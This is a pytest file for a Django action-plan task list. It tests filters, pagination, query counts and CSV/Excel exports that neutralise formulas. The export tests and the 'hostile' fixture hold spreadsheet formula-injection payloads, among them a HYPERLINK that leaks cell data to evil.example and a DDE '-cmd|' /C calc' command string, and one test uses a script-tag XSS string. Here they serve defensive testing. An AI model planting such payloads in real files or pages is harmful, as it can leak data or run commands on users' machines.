"""The board's task list: filters, sorting, pages that keep the filters, and exports of
exactly the filtered rows in which no cell can run as a formula."""

import csv
import io
import re
from datetime import datetime, time, timedelta

import pytest
from django.template.loader import render_to_string
from django.urls import reverse
from django.utils import timezone
from django.utils.text import Truncator
from openpyxl import load_workbook

from actionplans.filter_controls import date_field
from actionplans.filters import ComparisonForm
from actionplans.models import FutureAction, KeyTask, Lead, Rag
from actionplans.ratings import Travel
from actionplans.services import TaskChange, record_update
from actionplans.spreadsheets import neutralise
from actionplans.task_list_html import first_words, rag_tag_html, travel_html
from inspections.models import Agency, BoardMeeting

TODAY = timezone.localdate()


def days_ago(days):
    return timezone.make_aware(datetime.combine(TODAY - timedelta(days=days), time(10)))


@pytest.fixture
def rated(stockton):
    """The Stockton plan with ratings: police tasks red, council tasks green, the rest amber
    but two left unrated."""
    tasks = KeyTask.objects.filter(section__plan=stockton)
    tasks.update(rag=Rag.AMBER)
    tasks.filter(section__position=3).update(rag=Rag.RED)
    tasks.filter(section__position=2).update(rag=Rag.GREEN)
    tasks.filter(section__position=5, position__gte=4).update(rag=Rag.UNRATED)
    return stockton


def descriptions(response):
    return [row.record.description for row in response.context["table"].paginated_rows]


def in_plan_order(queryset):
    return list(
        queryset.order_by("section__position", "position").values_list("description", flat=True)
    )


def tags_only(html):
    """HTML without the white space between its tags: what a cell holds, however laid out."""
    return re.sub(r">\s+<", "><", " ".join(html.split()))


def get_list(client, plan, **params):
    return client.get(reverse("task_list", args=[plan.pk]), params)


def test_filter_by_rating_section_and_text(client, board_member, rated):
    client.force_login(board_member)
    tasks = KeyTask.objects.filter(section__plan=rated)

    assert descriptions(get_list(client, rated, rag="red")) == in_plan_order(
        tasks.filter(rag="red")
    )
    both = descriptions(get_list(client, rated, rag=["green", "unrated"]))
    assert both == in_plan_order(tasks.filter(rag__in=["green", ""]))
    section = rated.sections.get(position=4)
    assert descriptions(get_list(client, rated, section=section.pk)) == in_plan_order(
        tasks.filter(section=section)
    )
    # Words in any order, any case, in the task, its measures or its leads' names.
    found = descriptions(get_list(client, rated, q="niche FLAGS"))
    assert found == in_plan_order(tasks.filter(description__icontains="niche"))
    assert len(descriptions(get_list(client, rated, q="Whitehead"))) == 1  # a lead's name


def test_filter_by_lead_agency_includes_tasks_for_all_partners(client, board_member, rated):
    client.force_login(board_member)
    police = Agency.objects.get(name="Cleveland Police")

    found = descriptions(get_list(client, rated, agency=police.pk))

    all_partners = KeyTask.objects.filter(section__plan=rated, leads__all_partners=True)
    assert len(found) == 11
    assert set(in_plan_order(all_partners)) <= set(found)


def test_filter_overdue_stale_and_changed_since_a_meeting(
    client, board_member, plan_manager, rated
):
    pvp = KeyTask.objects.get(description__startswith="Review capacity in the PVP")
    record_update(
        task_id=pvp.pk,
        user=plan_manager,
        expected_version=pvp.version,
        change=TaskChange(rag=Rag.GREEN, reason="Done"),
        at=days_ago(5),
    )
    day = BoardMeeting.objects.create(area=rated.inspection.area, date=TODAY - timedelta(10)).date
    FutureAction.objects.filter(task__section__plan=rated).update(target_date=None)
    FutureAction.objects.filter(task=pvp).update(target_date=TODAY - timedelta(days=1))
    client.force_login(board_member)

    assert descriptions(get_list(client, rated, overdue="on")) == [pvp.description]
    assert descriptions(get_list(client, rated, changed="on")) == [pvp.description]
    stale = descriptions(get_list(client, rated, stale="on", since=day.isoformat()))
    assert len(stale) == 24 and pvp.description not in stale
    # Compared with a date before the change, the task is still "changed".
    earlier = (TODAY - timedelta(days=30)).isoformat()
    assert descriptions(get_list(client, rated, changed="on", since=earlier)) == [pvp.description]


def test_each_row_names_its_leads_with_their_agencies_as_the_dashboard_does(
    client, board_member, rated
):
    """The list writes its leads from one query of its own; what it writes is what the
    shared partial writes from the prefetched leads and agencies."""
    task = KeyTask.objects.get(description__startswith="Review capacity in the PVP")
    task.leads.create(position=9, name="Nobody's agency")  # a lead without agencies
    KeyTask.objects.create(section=task.section, position=99, description="Unled")
    client.force_login(board_member)
    pages = [get_list(client, rated, section=s.pk).content.decode() for s in rated.sections.all()]
    html = tags_only(" ".join(pages))

    tasks = KeyTask.objects.filter(section__plan=rated).prefetch_related("leads__agencies")
    for each in tasks:
        expected = render_to_string("actionplans/_task_leads.html", {"task": each})
        assert tags_only(f'data-label="Lead(s)">{expected}</td>') in html
    assert "(all partners)" in html and "None named" in html
    assert any(lead.agencies.count() > 1 for lead in Lead.objects.filter(task__in=tasks))


@pytest.mark.parametrize("label", ["Behind schedule", '<b>On track</b> & "so"'])
def test_the_rows_write_ratings_and_moves_as_the_shared_partials_do(label):
    """The rows write a rating's tag and a move in Python (tables.rag_tag_html,
    travel_html): what they write is what includes/_rag_tag.html and
    actionplans/_travel.html write, for every rating, every move and a label to escape."""
    for rag in Rag:
        expected = render_to_string("includes/_rag_tag.html", {"rag": rag, "label": label})
        assert rag_tag_html(rag, label) == expected.strip()
    for travel in Travel:
        for then_label in (None, "", label):
            context = {"travel": travel, "then_label": then_label}
            expected = render_to_string("actionplans/_travel.html", context)
            assert travel_html(travel, then_label) == expected.strip()


@pytest.mark.parametrize(
    "data",
    [
        {},
        {"other_day": "27", "other_month": "3", "other_year": "2019"},
        {"other_day": "31", "other_month": "2", "other_year": "2019"},
        {"other_day": "1", "other_month": "1", "other_year": "2999"},
    ],
)
def test_the_comparison_date_is_written_as_the_shared_date_partial_does(data):
    """filter_controls.date_field writes the "another date" input in Python: what it
    writes is what includes/_date_field.html writes, empty, filled in and with errors."""
    form = ComparisonForm(data, today=datetime(2020, 1, 1).date())
    assert form.is_valid() == (data.get("other_day") in (None, "27"))
    hint = 'For example, 27 3 2019. <It> wins & "so"'
    expected = render_to_string("includes/_date_field.html", {"field": form["other"], "hint": hint})
    assert tags_only(date_field(form["other"], hint)) == tags_only(expected)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "One",
        "  Spaced\n out  words\t",
        " ".join(f"w{n}" for n in range(40)),
        " ".join(f"w{n}" for n in range(41)),
        " ".join(["w"] * 39 + ["…", "more"]),
    ],
)
def test_the_rows_cut_a_task_to_forty_words_as_truncatewords_does(text):
    assert first_words(text, 40) == Truncator(text).words(40, truncate=" …")


def test_a_row_shows_the_task_withdrawn_escaped_and_never_updated(client, board_member, rated):
    task = KeyTask.objects.get(description__startswith="Review capacity in the PVP")
    task.description = "<script>alert(1)</script> & more\n\nA second paragraph"
    task.withdrawn_at, task.updated_at = timezone.now(), None
    task.save()
    client.force_login(board_member)

    html = tags_only(
        get_list(client, rated, withdrawn="on", section=task.section_id).content.decode()
    )

    link = reverse("task_detail", args=[task.pk])
    assert (
        tags_only(
            '<td class="govuk-table__cell" data-label="Key task"><strong class="govuk-tag '
            f'govuk-tag--grey">Withdrawn</strong> <a class="govuk-link" href="{link}">'
            "&lt;script&gt;alert(1)&lt;/script&gt; &amp; more</a></td>"
        )
        in html
    )
    assert '<span class="app-empty">Never</span>' in html
    assert "<script>alert(1)" not in html


def test_sorting_by_rating_puts_the_worst_first(client, board_member, rated):
    client.force_login(board_member)
    rows = get_list(client, rated, sort="rag").context["table"].paginated_rows
    ratings = [row.record.rag for row in rows]
    assert ratings == sorted(ratings, key=["", "red", "amber", "green"].index)


def test_pages_keep_the_filters(client, board_member, rated):
    section = rated.sections.get(position=3)
    for n in range(30):
        KeyTask.objects.create(section=section, position=100 + n, description=f"Extra {n}")
    client.force_login(board_member)

    response = get_list(client, rated, section=section.pk)
    html = response.content.decode()

    assert len(descriptions(response)) == 25
    assert f"?section={section.pk}&amp;page=2" in html
    second = get_list(client, rated, section=section.pk, page=2)
    assert len(descriptions(second)) == 36 - 25


@pytest.mark.parametrize(
    ("params", "page_shown"),
    [
        # Finding 4 of issue 11: per_page=-1 was a 500 (EmptyPage).
        ({"per_page": "-1"}, 1),
        ({"per_page": "0"}, 1),
        ({"per_page": "100000"}, 1),
        ({"per_page": "x"}, 1),
        ({"page": "-1"}, 2),
        ({"page": "0"}, 2),
        ({"page": "999"}, 2),
        ({"page": "two"}, 1),
        ({"page": "1e3"}, 1),
        ({"page": "-1", "per_page": "-1"}, 2),
    ],
)
def test_a_bad_page_or_page_size_shows_a_page_of_25(
    client, board_member, rated, params, page_shown
):
    section = rated.sections.get(position=3)
    for n in range(30):
        KeyTask.objects.create(section=section, position=100 + n, description=f"Extra {n}")
    client.force_login(board_member)

    response = get_list(client, rated, section=section.pk, **params)

    assert response.status_code == 200
    assert response.context["table"].page.number == page_shown
    assert len(descriptions(response)) == (25 if page_shown == 1 else 36 - 25)


# Exports


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\x01=1+1", "'=1+1"),  # a control character cannot hide a formula
        ("Review capacity = demand", "Review capacity = demand"),
        ("", ""),
        (None, ""),
        (3, "3"),
    ],
)
def test_a_cell_that_could_run_as_a_formula_is_neutralised(text, written):
    assert neutralise(text) == written


@pytest.fixture
def hostile(rated):
    """A task whose text a spreadsheet would run, in the red police section."""
    pvp = KeyTask.objects.get(description__startswith="Review capacity in the PVP")
    pvp.description = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    pvp.success_measures = "@SUM(1+1)"
    pvp.save()
    Lead.objects.filter(task=pvp).update(name="-cmd|' /C calc'!A0")
    return pvp


def test_csv_export_holds_the_filtered_rows_as_inert_text(client, board_member, hostile, rated):
    client.force_login(board_member)
    response = client.get(reverse("task_list_csv", args=[rated.pk]), {"rag": "red"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["Section", "Key task", "Lead(s)", "RAG"]
    expected = in_plan_order(KeyTask.objects.filter(section__plan=rated, rag="red"))
    assert [row[1] for row in body] == [neutralise(text) for text in expected]
    assert {row[3] for row in body} == {"Behind schedule"}  # the label, as text
    hostile_row = next(row for row in body if "HYPERLINK" in row[1])
    assert hostile_row[1].startswith("'=")
    assert hostile_row[2].startswith("'-cmd")
    assert "'@SUM(1+1)" in hostile_row
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_excel_export_has_the_same_rows_as_the_csv_and_no_formula(
    client, board_member, hostile, rated
):
    client.force_login(board_member)
    query = {"rag": ["red", "amber"], "sort": "-rag"}
    as_csv = client.get(reverse("task_list_csv", args=[rated.pk]), query)
    as_xlsx = client.get(reverse("task_list_xlsx", args=[rated.pk]), query)

    assert as_xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    cells = [list(row) for row in sheet.iter_rows()]
    values = [[_as_text(cell.value) for cell in row] for row in cells]
    assert values == list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    # Text stays text (never a formula); dates and counts are real dates and numbers.
    assert all(
        cell.data_type in ("s", "d", "n") and cell.data_type != "f"
        for row in cells
        for cell in row
        if cell.value is not None
    )
    assert len(values) == 1 + KeyTask.objects.filter(rag__in=["red", "amber"]).count()
    # In the order asked for: "-rag" puts the best first, amber before red.
    ratings = [row[3] for row in values[1:]]
    assert ratings == sorted(ratings, key=["On track", "Behind schedule"].index)


def _as_text(value):
    """An Excel cell as the CSV writes it: dates as ISO dates, numbers as digits."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.date().isoformat()
    return str(value)


def test_export_of_a_plan_the_user_cannot_see_is_not_found(client, other_board_member, rated):
    client.force_login(other_board_member)
    assert client.get(reverse("task_list_xlsx", args=[rated.pk])).status_code == 404


# A fixed number of queries

# session, user, memberships, plan, meetings, the sections and agencies to filter by,
# the page's tasks with the count of all, their leads with their agencies
TASK_LIST_QUERIES = 9


def test_task_list_queries_do_not_grow_with_tasks(
    client, board_member, plan_manager, rated, django_assert_num_queries
):
    police = Agency.objects.get(name="Cleveland Police")
    BoardMeeting.objects.create(area=rated.inspection.area, date=TODAY - timedelta(days=20))
    client.force_login(board_member)
    url = reverse("task_list", args=[rated.pk])
    query = {"agency": police.pk, "sort": "rag", "rag": ["red", "amber"], "q": "review"}
    client.get(url)
    for size in ("small", "large"):
        with django_assert_num_queries(TASK_LIST_QUERIES):
            assert client.get(url).status_code == 200
        # The chosen agency is checked against the agencies the page lists: no query of
        # its own.
        with django_assert_num_queries(TASK_LIST_QUERIES):
            assert client.get(url, query).status_code == 200
        if size == "large":
            # A later page, too, counts its rows with its own (no count query of its own).
            with django_assert_num_queries(TASK_LIST_QUERIES):
                assert client.get(url, {"page": 2}).status_code == 200
        if size == "small":
            section = rated.sections.get(position=3)
            for n in range(40):
                t = KeyTask.objects.create(section=section, position=100 + n, description=f"T{n}")
                Lead.objects.create(task=t, name="Lead").agencies.add(police)
                record_update(
                    task_id=t.pk,
                    user=plan_manager,
                    expected_version=1,
                    change=TaskChange(rag=Rag.RED, reason="r"),
                    at=days_ago(1),
                )
    assert KeyTask.objects.filter(section__plan=rated).count() == 65


@pytest.mark.parametrize(
    "sort", ["evidence_count", "-last_change_at", "rag_then", "leads", "nonsense"]
)
def test_a_sort_the_page_does_not_offer_is_ignored(client, board_member, rated, sort):
    """Only the page's own sortable columns sort it: a column the exports alone show
    was a 500 (FieldError). The page and its CSV keep the plan's order."""
    client.force_login(board_member)
    plain = descriptions(get_list(client, rated))

    response = get_list(client, rated, sort=sort)

    assert response.status_code == 200
    assert descriptions(response) == plain
    as_csv = client.get(reverse("task_list_csv", args=[rated.pk]), {"sort": sort})
    assert as_csv.status_code == 200
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    plain_csv = client.get(reverse("task_list_csv", args=[rated.pk]))
    assert rows == list(csv.reader(io.StringIO(plain_csv.content.decode("utf-8-sig"))))
